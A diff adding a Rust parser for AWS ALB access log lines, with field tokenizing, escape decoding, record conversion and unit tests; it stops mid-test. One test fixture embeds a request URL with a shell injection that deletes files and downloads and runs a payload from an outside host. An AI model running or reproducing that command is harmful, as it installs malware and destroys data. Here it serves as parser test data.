@@ -1,1 +1,1095 @@
-//! (being written)
+//! Application Load Balancer access log lines (`reference/alb.md`, section 2).
+//!
+//! A line is space-separated fields, some enclosed in double quotes, mapped by position. ALB
+//! writes a literal `"` inside a quoted field as `\x22` (and `\` as `\x5c`, non-ASCII as one
+//! `\xNN` per UTF-8 byte); those escapes are decoded, and a backslash-escaped `\"` (what other
+//! writers and VRL's parser use) is accepted too. AWS appends new fields at the end of the line
+//! and has done so four times (2019, 2020, 2024, 2025), so:
+//! - a line may end anywhere after `trace_id` (field 18): later fields are absent;
+//! - fields after the 33rd (`request_transform_status`) are kept, in order, in `extra`;
+//! - a line that ends before `trace_id` is [`ParseError::MissingField`] naming the first
+//!   missing field.
+//!
+//! The tokenizer borrows from the line and allocates only for a decoded escape, so parsing is
+//! about as fast as reading the bytes (see `benches/parse.rs`). The same tokenizer reads the
+//! connection log ([`crate::alb_connection`]) and the Classic ELB log ([`crate::clb`]).
+
+use std::borrow::Cow;
+
+use memchr::memchr;
+
+use crate::error::ParseError;
+use crate::record::{Record, RequestRecord, SCHEMA_VERSION};
+use crate::timestamp::parse_iso8601;
+use crate::unescape::decode_hex_escapes;
+
+/// One parsed ALB access log line, borrowing from the line.
+///
+/// Absent values (`-`, `"-"`, `-1` for a processing time, or a field the line ends before) are
+/// `None`. Quoted text fields are `Cow` because decoding an escape allocates.
+#[derive(Debug, Clone, PartialEq)]
+pub struct AlbEntry<'a> {
+    /// 1 `type`: http, https, h2, grpcs, ws or wss (other values are kept as they are).
+    pub kind: &'a str,
+    /// 2 `time`: when the response was sent (WebSockets: when the connection closed), µs UTC.
+    pub time: i64,
+    /// 3 `elb`: the load balancer's resource id (`app/name/id`).
+    pub elb: &'a str,
+    /// 4 `client:port`.
+    pub client: Option<Endpoint<'a>>,
+    /// 5 `target:port`; `-` for a Lambda target, a WAF block or an incomplete request.
+    pub target: Option<Endpoint<'a>>,
+    /// 6 `request_processing_time`, seconds.
+    pub request_processing_time: Option<f64>,
+    /// 7 `target_processing_time`, seconds.
+    pub target_processing_time: Option<f64>,
+    /// 8 `response_processing_time`, seconds.
+    pub response_processing_time: Option<f64>,
+    /// 9 `elb_status_code`.
+    pub elb_status_code: Option<u16>,
+    /// 10 `target_status_code`; absent when the target sent no response.
+    pub target_status_code: Option<u16>,
+    /// 11 `received_bytes` (headers included).
+    pub received_bytes: Option<u64>,
+    /// 12 `sent_bytes` (headers included).
+    pub sent_bytes: Option<u64>,
+    /// 13 `request`, split into method, URL and protocol.
+    pub request: Request<'a>,
+    /// 14 `user_agent` (AWS cuts it at 8 KB).
+    pub user_agent: Option<Cow<'a, str>>,
+    /// 15 `ssl_cipher`.
+    pub ssl_cipher: Option<&'a str>,
+    /// 16 `ssl_protocol`.
+    pub ssl_protocol: Option<&'a str>,
+    /// 17 `target_group_arn` (`-` seen on real redirect and 400 lines).
+    pub target_group_arn: Option<&'a str>,
+    /// 18 `trace_id`: the X-Amzn-Trace-Id header.
+    pub trace_id: Option<Cow<'a, str>>,
+    /// 19 `domain_name`: the TLS SNI.
+    pub domain_name: Option<Cow<'a, str>>,
+    /// 20 `chosen_cert_arn`, or `session-reused`.
+    pub chosen_cert_arn: Option<Cow<'a, str>>,
+    /// 21 `matched_rule_priority`: 1–50 000, 0 for the default action, -1 for a rule error.
+    pub matched_rule_priority: Option<i32>,
+    /// 22 `request_creation_time`: when the request arrived, µs UTC.
+    pub request_creation_time: Option<i64>,
+    /// 23 `actions_executed`, comma-separated.
+    pub actions_executed: Option<Cow<'a, str>>,
+    /// 24 `redirect_url`.
+    pub redirect_url: Option<Cow<'a, str>>,
+    /// 25 `error_reason`.
+    pub error_reason: Option<Cow<'a, str>>,
+    /// 26 `target:port_list`, space-separated.
+    pub target_port_list: Option<Cow<'a, str>>,
+    /// 27 `target_status_code_list`, space-separated.
+    pub target_status_code_list: Option<Cow<'a, str>>,
+    /// 28 `classification` (desync mitigation): Acceptable, Ambiguous, Severe.
+    pub classification: Option<Cow<'a, str>>,
+    /// 29 `classification_reason`.
+    pub classification_reason: Option<Cow<'a, str>>,
+    /// 30 `conn_trace_id`: bare `TID_<hex>`, the key into the connection log (since 2024-05).
+    pub conn_trace_id: Option<&'a str>,
+    /// 31 `transformed_host` (since 2025-08).
+    pub transformed_host: Option<Cow<'a, str>>,
+    /// 32 `transformed_uri`.
+    pub transformed_uri: Option<Cow<'a, str>>,
+    /// 33 `request_transform_status`.
+    pub request_transform_status: Option<Cow<'a, str>>,
+    /// Fields after the 33rd, in order, decoded but otherwise as written (`-` stays `-`).
+    pub extra: Vec<Cow<'a, str>>,
+}
+
+/// An `address:port` pair. IPv6 addresses are written without brackets (`2001:db8::1:443`),
+/// so the port is what follows the last colon; `[2001:db8::1]:443` is accepted too.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Endpoint<'a> {
+    /// The address, without brackets.
+    pub ip: &'a str,
+    /// The port.
+    pub port: u16,
+}
+
+impl<'a> Endpoint<'a> {
+    /// Splits `ip:port` on the last colon; `None` when there is no colon, no address or the
+    /// port is not a number from 0 to 65535.
+    pub fn parse(text: &'a str) -> Option<Endpoint<'a>> {
+        let (ip, port) = text.rsplit_once(':')?;
+        let ip = ip
+            .strip_prefix('[')
+            .and_then(|ip| ip.strip_suffix(']'))
+            .unwrap_or(ip);
+        if ip.is_empty() || !port.bytes().all(|b| b.is_ascii_digit()) {
+            return None;
+        }
+        Some(Endpoint {
+            ip,
+            port: port.parse().ok()?,
+        })
+    }
+
+    /// Whether `text` names this endpoint (`ip:port`, brackets or not).
+    fn is(&self, text: &str) -> bool {
+        Endpoint::parse(text).is_some_and(|other| other == *self)
+    }
+}
+
+/// A request line, `METHOD URL PROTOCOL`. The URL is what lies between the first and the last
+/// space, because ALB logs the URL as the client sent it, unescaped spaces included.
+///
+/// When the line does not have that shape (`- - - ` for a connection that never sent a request,
+/// `- http://example.com:80- -` for a malformed one), method, URL and protocol are `None` and
+/// the whole text is in `raw`.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Request<'a> {
+    /// The method (`GET`), when the line splits.
+    pub method: Option<&'a str>,
+    /// The URL, decoded from `\xNN` escapes, when the line splits.
+    pub url: Option<Cow<'a, str>>,
+    /// The protocol (`HTTP/1.1`, `HTTP/2.0`), when the line splits.
+    pub protocol: Option<&'a str>,
+    /// The whole request text, decoded, only when it does not split.
+    pub raw: Option<Cow<'a, str>>,
+}
+
+impl<'a> Request<'a> {
+    /// Splits the text of a request field (without its quotes, escapes not yet decoded).
+    /// `-` or empty is an absent request (all `None`).
+    pub fn split(text: &'a str) -> Request<'a> {
+        if text.is_empty() || text == "-" {
+            return Request::default();
+        }
+        if let (Some(first), Some(last)) = (memchr(b' ', text.as_bytes()), text.rfind(' ')) {
+            let method = &text[..first];
+            let protocol = &text[last + 1..];
+            let url = text.get(first + 1..last).unwrap_or("");
+            if is_method(method) && protocol.starts_with("HTTP/") && !url.is_empty() {
+                return Request {
+                    method: Some(method),
+                    url: Some(unescape_quoted(url)),
+                    protocol: Some(protocol),
+                    raw: None,
+                };
+            }
+        }
+        Request {
+            raw: Some(unescape_quoted(text)),
+            ..Request::default()
+        }
+    }
+}
+
+/// An HTTP method is a token (RFC 9110): letters, digits and `!#$%&'*+-.^_`|~`; `-` alone is
+/// what ALB writes when there was no method.
+fn is_method(text: &str) -> bool {
+    text != "-"
+        && !text.is_empty()
+        && text
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
+}
+
+/// Whether a line is the content of the test object ELB writes when logging is enabled
+/// (`ELBAccessLogTestFile`: `Enable AccessLog for ELB: app/name/id at 2025-05-30T16:47:00.781Z`,
+/// and `Enable ConnectionLog for ELB: …` for connection logs). Such lines are not log entries.
+pub fn is_control_line(line: &str) -> bool {
+    let line = line.trim_start_matches(['\u{feff}', ' ']);
+    let Some(rest) = line.strip_prefix("Enable ") else {
+        return false;
+    };
+    // Only AccessLog and ConnectionLog are known; any `<Kind>Log for ELB` is the same message.
+    rest.split_once(' ')
+        .is_some_and(|(kind, tail)| kind.ends_with("Log") && tail.starts_with("for ELB"))
+}
+
+/// Parses one ALB access log line (a trailing `\r\n` or `\n` is ignored).
+pub fn parse_line(line: &str) -> Result<AlbEntry<'_>, ParseError> {
+    let mut f = Tokens::new(line);
+    if f.is_empty() {
+        return Err(ParseError::Empty);
+    }
+    let kind = f.required("type")?.text;
+    let time = f.required("time")?.time("time")?;
+    let elb = f.required("elb")?.text;
+    let client = f.required("client:port")?.endpoint("client:port")?;
+    let target = f.required("target:port")?.endpoint("target:port")?;
+    let request_processing_time = f
+        .required("request_processing_time")?
+        .seconds("request_processing_time")?;
+    let target_processing_time = f
+        .required("target_processing_time")?
+        .seconds("target_processing_time")?;
+    let response_processing_time = f
+        .required("response_processing_time")?
+        .seconds("response_processing_time")?;
+    let elb_status_code = f.required("elb_status_code")?.status("elb_status_code")?;
+    let target_status_code = f
+        .required("target_status_code")?
+        .status("target_status_code")?;
+    let received_bytes = f.required("received_bytes")?.count("received_bytes")?;
+    let sent_bytes = f.required("sent_bytes")?.count("sent_bytes")?;
+    let request = Request::split(f.required("request")?.text);
+    let user_agent = f.required("user_agent")?.string();
+    let ssl_cipher = f.required("ssl_cipher")?.value();
+    let ssl_protocol = f.required("ssl_protocol")?.value();
+    let target_group_arn = f.required("target_group_arn")?.value();
+    let trace_id = f.required("trace_id")?.string();
+    // Everything after trace_id was added later (2019, 2020, 2024, 2025): a line may end at
+    // any of these, and `next` keeps returning `None` once it has.
+    let domain_name = f.next("domain_name")?.and_then(Field::string);
+    let chosen_cert_arn = f.next("chosen_cert_arn")?.and_then(Field::string);
+    let matched_rule_priority = match f.next("matched_rule_priority")? {
+        Some(field) => field.integer("matched_rule_priority")?,
+        None => None,
+    };
+    let request_creation_time = match f.next("request_creation_time")? {
+        Some(field) if field.value().is_some() => Some(field.time("request_creation_time")?),
+        _ => None,
+    };
+    let actions_executed = f.next("actions_executed")?.and_then(Field::string);
+    let redirect_url = f.next("redirect_url")?.and_then(Field::string);
+    let error_reason = f.next("error_reason")?.and_then(Field::string);
+    let target_port_list = f.next("target:port_list")?.and_then(Field::string);
+    let target_status_code_list = f.next("target_status_code_list")?.and_then(Field::string);
+    let classification = f.next("classification")?.and_then(Field::string);
+    let classification_reason = f.next("classification_reason")?.and_then(Field::string);
+    let conn_trace_id = f.next("conn_trace_id")?.and_then(Field::value);
+    let transformed_host = f.next("transformed_host")?.and_then(Field::string);
+    let transformed_uri = f.next("transformed_uri")?.and_then(Field::string);
+    let request_transform_status = f.next("request_transform_status")?.and_then(Field::string);
+    let mut extra = Vec::new();
+    while let Some(field) = f.next("extra")? {
+        extra.push(field.decoded());
+    }
+    Ok(AlbEntry {
+        kind,
+        time,
+        elb,
+        client,
+        target,
+        request_processing_time,
+        target_processing_time,
+        response_processing_time,
+        elb_status_code,
+        target_status_code,
+        received_bytes,
+        sent_bytes,
+        request,
+        user_agent,
+        ssl_cipher,
+        ssl_protocol,
+        target_group_arn,
+        trace_id,
+        domain_name,
+        chosen_cert_arn,
+        matched_rule_priority,
+        request_creation_time,
+        actions_executed,
+        redirect_url,
+        error_reason,
+        target_port_list,
+        target_status_code_list,
+        classification,
+        classification_reason,
+        conn_trace_id,
+        transformed_host,
+        transformed_uri,
+        request_transform_status,
+        extra,
+    })
+}
+
+/// Parses one ALB access log line into its [`Record::Alb`].
+pub fn parse_record(line: &str) -> Result<Record, ParseError> {
+    parse_line(line).map(|entry| Record::Alb(entry.to_record()))
+}
+
+impl AlbEntry<'_> {
+    /// The record written for this line.
+    pub fn to_record(&self) -> RequestRecord {
+        RequestRecord {
+            v: SCHEMA_VERSION,
+            // Lines from before 2019 have no request_creation_time; `time` is the best we have.
+            t: self.request_creation_time.unwrap_or(self.time),
+            end: Some(self.time),
+            kind: Some(self.kind.to_owned()),
+            server: Some(self.elb.to_owned()),
+            client_ip: self.client.map(|c| c.ip.to_owned()),
+            client_port: self.client.map(|c| c.port),
+            target_ip: self.target.map(|t| t.ip.to_owned()),
+            target_port: self.target.map(|t| t.port),
+            method: self.request.method.map(str::to_owned),
+            url: owned(&self.request.url),
+            protocol: self.request.protocol.map(str::to_owned),
+            request_raw: owned(&self.request.raw),
+            status: self.elb_status_code,
+            target_status: self.target_status_code,
+            received_bytes: self.received_bytes,
+            sent_bytes: self.sent_bytes,
+            user_agent: owned(&self.user_agent),
+            request_time: self.request_processing_time,
+            target_time: self.target_processing_time,
+            response_time: self.response_processing_time,
+            ssl_cipher: self.ssl_cipher.map(str::to_owned),
+            ssl_protocol: self.ssl_protocol.map(str::to_owned),
+            target_group: self.target_group_arn.map(str::to_owned),
+            trace_id: owned(&self.trace_id),
+            sni: owned(&self.domain_name),
+            cert: owned(&self.chosen_cert_arn),
+            rule_priority: self.matched_rule_priority,
+            actions: owned(&self.actions_executed),
+            redirect_url: owned(&self.redirect_url),
+            error_reason: owned(&self.error_reason),
+            // The lists hold one item equal to the single value today; store them only when
+            // they say something more.
+            target_list: self
+                .target_port_list
+                .as_deref()
+                .filter(|list| !self.target.is_some_and(|t| t.is(list)))
+                .map(str::to_owned),
+            target_status_list: self
+                .target_status_code_list
+                .as_deref()
+                .filter(|list| list.parse::<u16>().ok() != self.target_status_code)
+                .map(str::to_owned),
+            classification: owned(&self.classification),
+            classification_reason: owned(&self.classification_reason),
+            conn_trace_id: self.conn_trace_id.map(str::to_owned),
+            transformed_host: owned(&self.transformed_host),
+            transformed_uri: owned(&self.transformed_uri),
+            transform_status: owned(&self.request_transform_status),
+            extra: self.extra.iter().map(|x| x.to_string()).collect(),
+            ..RequestRecord::default()
+        }
+    }
+}
+
+fn owned(value: &Option<Cow<'_, str>>) -> Option<String> {
+    value.as_deref().map(str::to_owned)
+}
+
+/// Decodes the text of a quoted field: a backslash-escaped `\"` becomes `"`, then `\xNN`
+/// escapes are decoded. Borrows when there is no backslash, which is nearly always.
+pub(crate) fn unescape_quoted(text: &str) -> Cow<'_, str> {
+    if memchr(b'\\', text.as_bytes()).is_none() {
+        return Cow::Borrowed(text);
+    }
+    // `\"` first: ALB never writes it (a quote is `\x22`, a backslash `\x5c`), so doing it
+    // first cannot turn a decoded `\x5c` into an escape.
+    if text.contains("\\\"") {
+        let unquoted = text.replace("\\\"", "\"");
+        return Cow::Owned(decode_hex_escapes(&unquoted).into_owned());
+    }
+    decode_hex_escapes(text)
+}
+
+/// A field as the tokenizer found it: the text between the separators, without the quotes if
+/// it was quoted, escapes not yet decoded.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Field<'a> {
+    /// The raw text.
+    pub(crate) text: &'a str,
+    /// Whether it was enclosed in double quotes.
+    pub(crate) quoted: bool,
+}
+
+impl<'a> Field<'a> {
+    /// The raw text, `None` for `-` or empty.
+    pub(crate) fn value(self) -> Option<&'a str> {
+        (!self.text.is_empty() && self.text != "-").then_some(self.text)
+    }
+
+    /// The text, decoded if the field was quoted; `None` for `-` or empty.
+    pub(crate) fn string(self) -> Option<Cow<'a, str>> {
+        let text = self.value()?;
+        Some(if self.quoted {
+            unescape_quoted(text)
+        } else {
+            Cow::Borrowed(text)
+        })
+    }
+
+    /// The text, decoded if quoted, with `-` kept (for fields whose meaning is unknown).
+    pub(crate) fn decoded(self) -> Cow<'a, str> {
+        if self.quoted {
+            unescape_quoted(self.text)
+        } else {
+            Cow::Borrowed(self.text)
+        }
+    }
+
+    /// A required ISO 8601 time, µs.
+    pub(crate) fn time(self, name: &'static str) -> Result<i64, ParseError> {
+        parse_iso8601(self.text).ok_or_else(|| ParseError::invalid(name, self.text))
+    }
+
+    /// Seconds; `-1` (and `-`) mean "not measured" and are `None`.
+    pub(crate) fn seconds(self, name: &'static str) -> Result<Option<f64>, ParseError> {
+        let Some(text) = self.value() else {
+            return Ok(None);
+        };
+        match text.parse::<f64>() {
+            // AWS documents only -1; any negative time is equally meaningless.
+            Ok(v) if v < 0.0 => Ok(None),
+            Ok(v) if v.is_finite() && text.starts_with(|c: char| c.is_ascii_digit()) => Ok(Some(v)),
+            _ => Err(ParseError::invalid(name, self.text)),
+        }
+    }
+
+    /// A status code, `None` for `-` or empty.
+    pub(crate) fn status(self, name: &'static str) -> Result<Option<u16>, ParseError> {
+        self.number(name)
+    }
+
+    /// A byte count, `None` for `-` or empty.
+    pub(crate) fn count(self, name: &'static str) -> Result<Option<u64>, ParseError> {
+        self.number(name)
+    }
+
+    /// A signed integer, `None` for `-` or empty.
+    pub(crate) fn integer(self, name: &'static str) -> Result<Option<i32>, ParseError> {
+        let Some(text) = self.value() else {
+            return Ok(None);
+        };
+        let digits = text.strip_prefix('-').unwrap_or(text);
+        if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit()) {
+            return Err(ParseError::invalid(name, text));
+        }
+        text.parse()
+            .map(Some)
+            .map_err(|_| ParseError::invalid(name, text))
+    }
+
+    /// An unsigned number, `None` for `-` or empty.
+    pub(crate) fn number<T: std::str::FromStr>(
+        self,
+        name: &'static str,
+    ) -> Result<Option<T>, ParseError> {
+        let Some(text) = self.value() else {
+            return Ok(None);
+        };
+        // `str::parse` also takes a leading `+`; a log never writes one.
+        if !text.bytes().all(|b| b.is_ascii_digit()) {
+            return Err(ParseError::invalid(name, text));
+        }
+        text.parse()
+            .map(Some)
+            .map_err(|_| ParseError::invalid(name, text))
+    }
+
+    /// An `ip:port`, `None` for `-`.
+    pub(crate) fn endpoint(self, name: &'static str) -> Result<Option<Endpoint<'a>>, ParseError> {
+        match self.value() {
+            None => Ok(None),
+            Some(text) => Endpoint::parse(text)
+                .map(Some)
+                .ok_or_else(|| ParseError::invalid(name, text)),
+        }
+    }
+}
+
+/// Splits a line into fields: separated by one space; a field that starts with `"` runs to the
+/// next `"` that is followed by a space or the end of the line and not escaped by a backslash.
+pub(crate) struct Tokens<'a> {
+    line: &'a str,
+    pos: usize,
+    done: bool,
+}
+
+impl<'a> Tokens<'a> {
+    /// Starts at the beginning of `line`, ignoring surrounding white space and a line end.
+    pub(crate) fn new(line: &'a str) -> Tokens<'a> {
+        let line = line
+            .trim_start_matches(['\u{feff}', ' ', '\t'])
+            .trim_end_matches([' ', '\t', '\r', '\n']);
+        Tokens {
+            line,
+            pos: 0,
+            done: line.is_empty(),
+        }
+    }
+
+    /// Whether the line has no fields at all.
+    pub(crate) fn is_empty(&self) -> bool {
+        self.line.is_empty()
+    }
+
+    /// The next field, or `MissingField(name)` if the line has ended.
+    pub(crate) fn required(&mut self, name: &'static str) -> Result<Field<'a>, ParseError> {
+        self.next(name)?.ok_or(ParseError::MissingField(name))
+    }
+
+    /// The next field, `None` once the line has ended, `Unterminated(name)` for an open quote.
+    pub(crate) fn next(&mut self, name: &'static str) -> Result<Option<Field<'a>>, ParseError> {
+        if self.done {
+            return Ok(None);
+        }
+        let bytes = self.line.as_bytes();
+        let start = self.pos;
+        if bytes.get(start) != Some(&b'"') {
+            let rest = bytes.get(start..).unwrap_or_default();
+            let end = match memchr(b' ', rest) {
+                Some(i) => {
+                    self.pos = start + i + 1;
+                    start + i
+                }
+                None => {
+                    self.done = true;
+                    bytes.len()
+                }
+            };
+            return Ok(Some(Field {
+                text: self.line.get(start..end).unwrap_or_default(),
+                quoted: false,
+            }));
+        }
+        let body = start + 1;
+        let mut from = body;
+        loop {
+            let Some(quote) = bytes
+                .get(from..)
+                .and_then(|rest| memchr(b'"', rest))
+                .map(|i| from + i)
+            else {
+                self.done = true;
+                return Err(ParseError::Unterminated(name));
+            };
+            from = quote + 1;
+            if escaped(bytes, body, quote) {
+                continue;
+            }
+            let closes = match bytes.get(quote + 1) {
+                None => {
+                    self.done = true;
+                    true
+                }
+                Some(b' ') => {
+                    self.pos = quote + 2;
+                    true
+                }
+                // A quote inside the text that was not escaped: keep looking.
+                Some(_) => false,
+            };
+            if closes {
+                return Ok(Some(Field {
+                    text: self.line.get(body..quote).unwrap_or_default(),
+                    quoted: true,
+                }));
+            }
+        }
+    }
+}
+
+/// Whether the byte at `at` is preceded (after `start`) by an odd number of backslashes.
+fn escaped(bytes: &[u8], start: usize, at: usize) -> bool {
+    let before = bytes.get(start..at).unwrap_or_default();
+    before.iter().rev().take_while(|&&b| b == b'\\').count() % 2 == 1
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    const HTTP: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#;
+
+    fn with(find: &str, replace: &str) -> String {
+        assert!(HTTP.contains(find), "{find}");
+        HTTP.replacen(find, replace, 1)
+    }
+
+    #[test]
+    fn tricky_lines() {
+        type Check = fn(&AlbEntry<'_>);
+        let cases: Vec<(&str, String, Check)> = vec![
+            (
+                "escaped_quote_in_user_agent",
+                with(r#""curl/7.46.0""#, r#""Mozilla \x22quoted\x22 5.0""#),
+                |e| assert_eq!(e.user_agent.as_deref(), Some(r#"Mozilla "quoted" 5.0"#)),
+            ),
+            (
+                "backslash_quote_in_user_agent",
+                with(r#""curl/7.46.0""#, r#""say \"hi\" there""#),
+                |e| {
+                    assert_eq!(e.user_agent.as_deref(), Some(r#"say "hi" there"#));
+                    assert_eq!(e.ssl_cipher, None);
+                },
+            ),
+            (
+                "backslash_quote_before_separator",
+                with(r#""curl/7.46.0""#, r#""quote then space \" x \"""#),
+                |e| assert_eq!(e.user_agent.as_deref(), Some(r#"quote then space " x ""#)),
+            ),
+            (
+                "ipv6_client_without_brackets",
+                with(
+                    "192.168.131.39:2817",
+                    "2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718",
+                ),
+                |e| {
+                    assert_eq!(
+                        e.client,
+                        Some(Endpoint {
+                            ip: "2a02:a33c:4538:1:bcf4:5264:e01c:f215",
+                            port: 50718
+                        })
+                    )
+                },
+            ),
+            (
+                "ipv6_client_with_brackets",
+                with("192.168.131.39:2817", "[fe80::1]:443"),
+                |e| {
+                    assert_eq!(
+                        e.client,
+                        Some(Endpoint {
+                            ip: "fe80::1",
+                            port: 443
+                        })
+                    )
+                },
+            ),
+            (
+                "utf8_escapes_in_url",
+                with(
+                    "http://www.example.com:80/",
+                    "http://www.example.com:80/\\xE6\\x97\\xA5?q=\\xC3\\x88",
+                ),
+                |e| {
+                    assert_eq!(
+                        e.request.url.as_deref(),
+                        Some("http://www.example.com:80/日?q=È")
+                    );
+                    assert_eq!(e.request.method, Some("GET"));
+                },
+            ),
+            (
+                "space_in_uri",
+                with(
+                    "http://www.example.com:80/",
+                    "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
+                ),
+                |e| {
+                    assert_eq!(
+                        e.request,
+                        Request {
+                            method: Some("GET"),
+                            url: Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws".into()),
+                            protocol: Some("HTTP/1.1"),
+                            raw: None,
+                        }
+                    )
+                },
+            ),
+            (
+                "no_request_line",
+                with("GET http://www.example.com:80/ HTTP/1.1", "- - - "),
+                |e| {
+                    assert_eq!(
+                        e.request,
+                        Request {
+                            raw: Some("- - - ".into()),
+                            ..Request::default()
+                        }
+                    )
+                },
+            ),
+            (
+                "malformed_request_dash_glued_to_port",
+                with(
+                    "GET http://www.example.com:80/ HTTP/1.1",
+                    "- http://www.example.com:80- -",
+                ),
+                |e| {
+                    assert_eq!(
+                        e.request.raw.as_deref(),
+                        Some("- http://www.example.com:80- -")
+                    )
+                },
+            ),
+            (
+                "target_dash_for_lambda",
+                with("10.0.0.1:80 0.000", "- 0.000")
+                    .replace(r#""10.0.0.1:80" "200""#, r#""-" "-""#),
+                |e| {
+                    assert_eq!(e.target, None);
+                    assert_eq!(e.target_port_list, None);
+                    assert_eq!(e.target_status_code_list, None);
+                },
+            ),
+            (
+                "all_minus_one_timings",
+                with("0.000 0.001 0.000 200 200", "-1 -1 -1 502 -"),
+                |e| {
+                    assert_eq!(
+                        (
+                            e.request_processing_time,
+                            e.target_processing_time,
+                            e.response_processing_time
+                        ),
+                        (None, None, None)
+                    );
+                    assert_eq!((e.elb_status_code, e.target_status_code), (Some(502), None));
+                },
+            ),
+            (
+                "ends_at_trace_id",
+                HTTP[..HTTP.find(r#" "-" "-" 0"#).unwrap()].to_string(),
+                |e| {
+                    assert_eq!(
+                        e.trace_id.as_deref(),
+                        Some("Root=1-58337262-36d228ad5d99923122bbe354")
+                    );
+                    assert_eq!(
+                        (e.matched_rule_priority, e.request_creation_time),
+                        (None, None)
+                    );
+                },
+            ),
+            (
+                "ends_at_error_reason",
+                HTTP[..HTTP.find(r#" "10.0.0.1:80" "200""#).unwrap()].to_string(),
+                |e| {
+                    assert_eq!(e.actions_executed.as_deref(), Some("forward"));
+                    assert_eq!(e.error_reason, None);
+                    assert_eq!(e.target_port_list, None);
+                },
+            ),
+            (
+                "ends_at_target_status_code_list",
+                HTTP.strip_suffix(r#" "-" "-""#).unwrap().to_string(),
+                |e| {
+                    assert_eq!(e.target_status_code_list.as_deref(), Some("200"));
+                    assert_eq!(e.classification, None);
+                },
+            ),
+            (
+                "session_reused_cert_and_rule_error",
+                with(r#""-" "-" 0 "#, r#""example.com" "session-reused" -1 "#),
+                |e| {
+                    assert_eq!(e.chosen_cert_arn.as_deref(), Some("session-reused"));
+                    assert_eq!(e.matched_rule_priority, Some(-1));
+                },
+            ),
+            ("crlf", format!("{HTTP}\r\n"), |e| {
+                assert_eq!(e.classification_reason, None)
+            }),
+            (
+                "conn_trace_id_then_transforms_then_unknown",
+                format!(
+                    "{HTTP} TID_1234abcd5678ef90 \"h.example\" \"/new\" \"TransformSuccess\" 10.1.2.3 \"-\""
+                ),
+                |e| {
+                    assert_eq!(e.conn_trace_id, Some("TID_1234abcd5678ef90"));
+                    assert_eq!(e.transformed_host.as_deref(), Some("h.example"));
+                    assert_eq!(e.transformed_uri.as_deref(), Some("/new"));
+                    assert_eq!(
+                        e.request_transform_status.as_deref(),
+                        Some("TransformSuccess")
+                    );
+                    assert_eq!(e.extra, vec![Cow::Borrowed("10.1.2.3"), Cow::Borrowed("-")]);
+                },
+            ),
+            (
+                "huge_user_agent",
+                with("curl/7.46.0", &"A".repeat(1 << 20)),
+                |e| assert_eq!(e.user_agent.as_deref().map(str::len), Some(1 << 20)),
+            ),
+            (
+                "non_ascii_raw_bytes_lossy_decoded",
+                {
+                    let raw: Vec<u8> = with("curl/7.46.0", "caf\u{1}")
+                        .bytes()
+                        .map(|b| if b == 1 { 0xE9 } else { b })
+                        .collect();
+                    String::from_utf8_lossy(&raw).into_owned()
+                },
+                |e| assert_eq!(e.user_agent.as_deref(), Some("caf\u{fffd}")),
+            ),
+        ];
+        for (name, line, check) in cases {
+            match parse_line(&line) {
+                Ok(entry) => check(&entry),
+                Err(e) => panic!("{name}: {e}"),
+            }
+        }
+    }
+
+    #[test]
+    fn error_table() {
+        let cases: Vec<(&str, String, ParseError)> = vec![
+            ("empty_line", String::new(), ParseError::Empty),
+            ("only_line_end", "\r\n".into(), ParseError::Empty),
+            (
+                "ends_before_trace_id",
+                HTTP[..HTTP.find(r#" "Root="#).unwrap()].to_string(),
+                ParseError::MissingField("trace_id"),
+            ),
+            ("only_type", "http".into(), ParseError::MissingField("time")),
+            (
+                "bad_time",
+                with("2018-07-02T22:23:00.186641Z", "yesterday"),
+                ParseError::invalid("time", "yesterday"),
+            ),
+            (
+                "bad_port",
+                with(":2817", ":99999"),
+                ParseError::invalid("client:port", "192.168.131.39:99999"),
+            ),
+            (
+                "bad_timing",
+                with("0.001", "fast"),
+                ParseError::invalid("target_processing_time", "fast"),
+            ),
+            (
+                "unterminated_user_agent",
+                HTTP[..HTTP.find("curl/7").unwrap() + 4].to_string(),
+                ParseError::Unterminated("user_agent"),
+            ),
+            (
+                "control_line_is_not_an_entry",
+                "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z"
+                    .into(),
+                ParseError::invalid("time", "AccessLog"),
+            ),
+        ];
+        for (name, line, want) in cases {
+            assert_eq!(parse_line(&line), Err(want), "{name}");
+        }
+    }
+
+    #[test]
+    fn every_prefix_is_handled() {
+        let long = format!("{HTTP} TID_1234abcd5678ef90 \"-\" \"-\" \"-\" extra");
+        for (cut, _) in long.char_indices() {
+            match parse_line(&long[..cut]) {
+                Ok(entry) => assert!(
+                    cut >= HTTP.find(r#" "-" "-" 0"#).unwrap(),
+                    "{cut}: {entry:?}"
+                ),
+                Err(ParseError::Empty) => assert_eq!(cut, 0),
+                Err(
+                    ParseError::MissingField(name)
+                    | ParseError::Unterminated(name)
+                    | ParseError::InvalidField { field: name, .. },
+                ) => assert!(!name.is_empty()),
+                Err(other) => panic!("{cut}: {other}"),
+            }
+        }
+    }
+
+    #[test]
+    fn control_lines() {
+        assert!(is_control_line(
+            "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z"
+        ));
+        assert!(is_control_line(
+            "Enable ConnectionLog for ELB: app/x/y at 2025-05-30T16:47:00.781Z"
+        ));
+        assert!(!is_control_line(HTTP));
+        assert!(!is_control_line("Enable something else"));
+    }
+
+    #[test]
+    fn record_drops_lists_that_repeat_the_single_value() {
+        let entry = parse_line(HTTP).unwrap();
+        let record = entry.to_record();
